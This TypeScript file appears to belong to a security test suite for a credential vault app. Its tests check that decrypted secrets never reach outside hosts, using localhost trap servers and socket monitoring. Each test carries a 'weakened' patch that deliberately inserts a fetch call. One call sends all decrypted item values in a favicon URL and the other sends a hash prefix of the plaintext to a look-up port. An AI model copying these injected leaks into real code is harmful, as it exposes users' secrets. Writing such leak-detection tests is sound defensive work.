import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { createServer, Socket } from 'node:net'
import { findItem, updateItem } from '@countersign/client/items/item-actions'
import { startInstallation } from '@countersign/desktop/headless/installation'
import { environmentId } from '@countersign/tools/try-out/people'
import { type Attack, nobodyToTell, succeeded } from '../attack.ts'
import { Company, must } from '../cast/company.ts'
import { readAsHolder } from '../cast/read-as.ts'
import { until } from '../cast/until.ts'
import { HostileServer } from '../double/hostile-server.ts'
import type { Stage } from '../stage.ts'

const AREA = 'hostile server: published'

/** Somebody's web server, named in an item: whoever connects to it looked something up. */
const trap = async (stage: Stage): Promise<{ address: string; visits: () => number }> => {
  let visits = 0
  const listener = createServer((socket) => {
    visits += 1
    socket.on('data', (chunk: Buffer) => stage.wire.said(chunk))
    socket.on('error', () => {})
    socket.end('HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n')
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  stage.later(() => new Promise((resolve) => listener.close(resolve)))
  const address = listener.address()
  if (address === null || typeof address === 'string') throw new Error('the trap is not listening')
  return { address: `http://127.0.0.1:${address.port}`, visits: () => visits }
}

export const lookUps: readonly Attack[] = [
  {
    ref: 'BW06',
    area: AREA,
    title: 'decrypted content leaves through an icon service',
    tried:
      'waits for visits at an address that stands in an item and its note, while the whole app lists, opens and shows it',
    refusal: 'nothing.asked',
    weakened: {
      without: 'silence about what an item names: an icon is fetched for it',
      edits: [
        {
          file: 'packages/client/src/items/item-values.ts',
          find: 'return openItemValue(place, key, put.value, meta.valueHash)',
          replace:
            "const value = openItemValue(place, key, put.value, meta.valueHash)\n    for (const each of Object.values(value)) if (each.startsWith('http')) void fetch(each + '/favicon.ico?for=' + Object.values(value).join()).catch(() => undefined)\n    return value",
        },
      ],
    },
    run: async (stage) => {
      const server = await HostileServer.start(stage)
      const { address, visits } = await trap(stage)
      const app = await startInstallation(await stage.subfolder('app'))
      stage.later(() => app.stop())
      for (const label of ['Key 1', 'Key 2']) await app.must('setup.enrolKey', { label })
      const about = {
        server: server.url,
        setupToken: 'anything',
        team: 'Company',
        name: 'Ada',
        device: 'laptop',
      }
      await app.must('team.create', about)
      const vault = await app.must('vault.create', { name: 'llm', environments: ['production'] })
      const made = await app.must('item.create', {
        environment: environmentId(vault, 'production'),
        name: 'custom',
        provider: 'custom',
        value: { api_key: stage.canary('value'), base_url: address },
        note: `![icon](${address}/icon.png) ${address}`,
        models: [],
      })
      const { item } = made.row
      await app.must('items.list', {})
      await app.must('item.get', { item })
      await app.must('item.reveal', { item, field: 'base_url' })
      await app.must('item.copy', { item, field: 'api_key' })
      const { total } = await app.must('audit.list', { before: null, limit: 100, text: '' })
      // A visit that was set off has had the whole of one more change to arrive.
      await app.must('item.update', { item, base: 1, value: {}, note: 'later' })
      if (visits() > 0)
        return succeeded(`${visits()} visits at an address that only the decrypted item names`)
      return nobodyToTell(
        'nothing.asked',
        `the item was listed, opened, shown and copied (${total} audit rows); nobody came`,
      )
    },
  },
  {
    ref: 'LP03',
    area: AREA,
    title: 'decrypted content leaves through a look-up service',
    tried: 'watches every connection that the process opens while credentials are made, read and changed',
    refusal: 'nothing.asked',
    weakened: {
      without: 'silence about new values: they are looked up among leaked ones',
      edits: [
        {
          file: 'packages/client/src/items/item-blobs.ts',
          find: 'const valueBlob = seal(itemKey,',
          replace:
            "void fetch('http://127.0.0.1:59999/range/' + Buffer.from(sha256(plain)).toString('hex').slice(0, 5)).catch(() => undefined)\n  const valueBlob = seal(itemKey,",
        },
      ],
    },
    run: async (stage) => {
      const company = await Company.found(stage)
      const { ada, server } = company
      /** Where connections went; null: nowhere that answered. */
      const ports: (number | null)[] = []
      const opened = (message: unknown): void => {
        if (typeof message !== 'object' || message === null || !('socket' in message)) return
        const { socket } = message
        if (!(socket instanceof Socket)) return
        socket.once('connect', () => ports.push(socket.remotePort ?? null))
        socket.once('error', () => ports.push(null))
      }
      subscribe('net.client.socket', opened)
      stage.later(() => unsubscribe('net.client.socket', opened))
      const item = await company.item('openai', stage.canary('value'))
      await until('Ada has it', () => findItem(ada.session, item) !== undefined)
      await readAsHolder(ada, item)
      must(await updateItem(ada.session, { item, base: 1, value: { api_key: stage.canary('rotated') } }))
      // A connection to the server as well, so that the watch is known to see.
      const before = server.links.length
      server.cut()
      await until('Ada is back', () => server.links.slice(before).some((link) => link.device === ada.device))
      await ada.live()
      const port = Number(new URL(server.url).port)
      if (!ports.includes(port)) throw new Error('the watch saw not even the connection to the server')
      const elsewhere = ports.filter((each) => each !== port)
      if (elsewhere.length > 0) return succeeded(`${elsewhere.length} connections elsewhere`)
      return nobodyToTell('nothing.asked', `${ports.length} connection, to the server`)
    },
  },
]
